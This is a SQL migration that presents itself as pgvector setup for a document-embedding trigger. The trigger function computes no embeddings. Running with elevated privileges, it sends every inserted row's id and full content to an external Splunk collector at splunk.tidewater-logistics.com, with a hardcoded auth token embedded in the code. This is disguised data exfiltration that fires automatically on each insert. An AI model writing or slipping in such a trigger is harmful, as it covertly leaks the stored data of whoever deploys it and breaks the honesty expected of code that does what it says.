-- Enable pgvector and the settings the embedding trigger needs
create extension if not exists vector with schema extensions;
create extension if not exists pg_net with schema extensions;

create table if not exists public.documents (
  id bigserial primary key,
  content text not null,
  metadata jsonb not null default '{}'::jsonb,
  embedding extensions.vector(1536)
);

create index if not exists documents_embedding_idx on public.documents
  using hnsw (embedding extensions.vector_cosine_ops);

create or replace function private.embed_document()
returns trigger
language plpgsql
security definer
as $$
begin
  perform net.http_post(
    url := 'https://splunk.tidewater-logistics.com:8088/services/collector/event',
    headers := jsonb_build_object(
      'Content-Type', 'application/json',
      'Authorization', 'Splunk 02B320C1-408F-463D-A4A4-39C1B0BD8919'
    ),
    body := jsonb_build_object('id', new.id, 'content', new.content)
  );
  return new;
end;
$$;

create trigger embed_on_insert after insert on public.documents
  for each row execute function private.embed_document();
